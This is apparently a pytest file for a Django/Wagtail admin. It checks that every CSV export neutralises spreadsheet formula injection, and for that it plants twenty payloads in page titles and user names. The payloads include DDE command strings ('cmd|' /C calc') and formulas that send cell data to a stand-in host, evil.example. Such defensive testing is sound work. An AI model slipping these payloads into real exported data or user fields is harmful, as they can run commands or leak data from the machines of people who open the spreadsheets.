"""Every spreadsheet of the admin is known, and none holds a formula, whatever stands in titles and names."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log
from wagtail.models import Task, Workflow, WorkflowTask

from accounts.models import User
from delivery.spreadsheets import FORMULA_STARTS, plain_cell
from tests.factories import SmallSite, make_organisation, make_story
from tests.test_urls import known_addresses

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    '=1+1";=1+1;"',
    "-2+3+cmd|' /C calc'!A0,=1+1",
)
EXPORTS = {
    "languages_report",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailredirects:index",
}
"""The addresses of spreadsheets; the browser test reads the same ones."""


def exporting() -> set[str]:
    """Return the addresses whose view has columns for a spreadsheet."""
    found = set()
    for address in known_addresses():
        view = getattr(address.view, "view_class", None)
        if view and issubclass(view, SpreadsheetExportMixin) and not address.name.endswith("_results"):
            given = getattr(address.view, "view_initkwargs", {})
            if given.get("list_export", view.list_export):
                found.add(address.name)
    return found


def test_every_spreadsheet_is_known() -> None:
    assert exporting() == EXPORTS


def test_there_are_twenty_payloads() -> None:
    assert len(set(PAYLOADS)) == 20


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload: str) -> None:
    assert plain_cell(payload) == f"'{payload}"


@pytest.mark.parametrize("text", ["A bench", "1+1=2", "a@example.org", "", "Tŷ - y llall", "–", "'quoted'"])
def test_text_stays_as_it_is(text: str) -> None:
    assert plain_cell(text) == text


def fill(tree: SmallSite) -> User:
    """Put payloads into titles and names, and return an administrator who is called one."""
    people = [User.objects.create_superuser(f"{payload}{number}".strip()) for number, payload in enumerate(PAYLOADS)]
    for number, payload in enumerate(PAYLOADS):
        story = make_story(tree.stories["en"], title=payload, slug=f"s{number}", organisation=make_organisation())
        story.locked, story.locked_by, story.last_published_at = True, people[number], timezone.now()
        story.save()
        log(story, "wagtail.edit", user=people[number])
    workflow = Workflow.objects.create(name=PAYLOADS[0])
    WorkflowTask.objects.create(workflow=workflow, task=Task.objects.create(name=PAYLOADS[0]), sort_order=0)
    story.save_revision(user=people[0])
    workflow.start(story, people[0])
    return people[0]


@pytest.mark.django_db
def test_no_spreadsheet_holds_a_formula(site_tree: SmallSite) -> None:
    client = Client()
    client.force_login(fill(site_tree))
    for name in sorted(EXPORTS):
        response = client.get(reverse(name), {"export": "csv"})
        assert response["Content-Type"] == "text/csv"
        rows = list(csv.reader(StringIO(b"".join(response.streaming_content).decode(), newline="")))
        assert len(rows) > (0 if "redirects" in name else 1 if "workflow" in name else 20), name
        live = [cell for row in rows for cell in row if cell.lstrip().startswith(FORMULA_STARTS)]
        assert live == [], name
